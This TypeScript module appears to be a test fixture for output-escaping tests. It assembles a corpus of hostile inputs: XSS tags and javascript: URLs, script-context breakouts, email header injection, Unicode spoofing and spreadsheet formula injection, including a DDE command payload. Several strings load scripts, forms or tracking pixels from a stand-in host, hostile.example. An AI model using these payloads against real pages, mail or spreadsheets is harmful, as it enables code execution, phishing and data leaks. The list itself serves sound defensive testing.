/**
 * These texts are harmful if a page, mail, header or spreadsheet interprets them. Scripts call `pwned()` or add what
 * the product never renders.
 */

const handlers = [
  "onerror",
  "onload",
  "onclick",
  "onmouseover",
  "onfocus",
  "onanimationend",
  "onpointerenter",
  "ontoggle",
];
const elements = ["img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "x-hostile tabindex=0"];

const tags = elements.flatMap((element, index) =>
  [handlers[index]!, handlers[(index + 3) % handlers.length]!].flatMap((handler) => [
    `<${element} ${handler}=pwned()>`,
    `"><${element} ${handler}="pwned()">`,
    `'><${element} ${handler}='pwned()'`,
  ]),
);

const schemes = [
  "javascript:pwned()",
  "JaVaScRiPt:pwned()",
  "java\tscript:pwned()",
  "\u0001javascript:pwned()",
].flatMap((url) => [`<a href="${url}">x</a>`, `" href="${url}" x="`, `[press](${url})`, url]);

const written = [
  "<script>pwned()</script>",
  "<ScRiPt>pwned()</sCrIpT>",
  "<script src=//hostile.example/x.js></script>",
  "</script><script>pwned()</script>",
  "</textarea><script>pwned()</script>",
  "</title><script>pwned()</script>",
  "</style><script>pwned()</script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<script\u0000>pwned()</script>",
  "<script\n>pwned()\n</script\n>",
  "<!--><script>pwned()</script-->",
  "<![CDATA[><script>pwned()</script>]]>",
  "<?xml version='1.0'?><x-hostile/>",
  "<svg><script>pwned()</script></svg>",
  "<svg><animate attributeName=href values=javascript:pwned() /><a><text y=20>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=data:text/html,hostile></iframe>",
  "<object data=data:text/html,hostile></object>",
  "<embed src=//hostile.example>",
  "<base href=//hostile.example/>",
  "<link rel=stylesheet href=//hostile.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//hostile.example'>",
  "<form action=//hostile.example><button>Send</button></form>",
  "<input type=password placeholder='Your password'>",
  "<button form=x formaction=javascript:pwned()>x</button>",
  "<template><script>pwned()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<style>@import '//hostile.example/x.css';</style>",
  "<div style='position:fixed;inset:0' x-hostile></div>",
  "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+'>x</a>",
  "<a href='vbscript:pwned()'>x</a>",
  "<a target=_blank href=//hostile.example>x</a>",
  "<img src=//hostile.example/pixel.gif>",
  "<img srcset='//hostile.example/a 1x'>",
  "<audio autoplay src=//hostile.example/a.mp3>",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "&#60;script&#62;pwned()&#60;/script&#62;",
  "&amp;lt;img src=x onerror=pwned()&amp;gt;",
  "\u003cimg src=x onerror=pwned()\u003e",
  "\\u003cimg src=x onerror=pwned()\\u003e",
  "＜script＞pwned()＜/script＞",
  "%3Cscript%3Epwned()%3C/script%3E",
  "' onmouseover=pwned() x='",
  '" autofocus onfocus=pwned() x="',
  "` onmouseover=pwned() x=`",
  "';pwned();//",
  '";pwned();//',
  "</p></div></body></html><x-hostile>",
  "{{constructor.constructor('pwned()')()}}",
  "${pwned()}",
  "#{pwned()}",
  "<%= pwned() %>",
  "![x](//hostile.example/pixel.gif)",
  "[x](javascript:pwned())",
  "<https://hostile.example>",
  "]]><x-hostile/>",
  '{"__proto__":{"pwned":true}}',
  "__proto__",
  "constructor",
  "dangerouslySetInnerHTML",
];

const headers = [
  "Ada\r\nBcc: everyone@hostile.example",
  "Ada\nSubject: hostile",
  "Ada\r\n\r\n<x-hostile>",
  "Ada\u2028Bcc: everyone@hostile.example",
  "Ada\u0085Bcc: everyone@hostile.example",
  "Ada\u000bBcc: everyone@hostile.example",
  "=?utf-8?q?=0d=0aBcc:everyone=40hostile.example?=",
  "Ada\u202egpj.exe",
  "Ada\u2066hidden\u2069",
];

/** A spreadsheet would evaluate or convert these. */
export const formulas: readonly string[] = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("//hostile.example";"x")', "=cmd|' /C calc'!A0", "|calc", "%x"],
  ...["\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u0000=1+1", "\u0001=1+1", "\u007f=1+1", " =1+1", "   -1"],
  ...["＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x", "−1+1"],
  ...["\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u2066=1+1", "\u3000=1+1", "\u00ad=1+1", "\u{e0001}=1"],
  ...["\tx", "\rx", "\u0000x", '"=1+1', '";=1+1', '",=1+1', '"\r\n=1+1'].filter((text) => !text.startsWith('"')),
];

/** All texts of this file; each has at most 120 characters (the longest name). */
export const hostileTexts: readonly string[] = [...new Set([...tags, ...schemes, ...written, ...headers, ...formulas])];
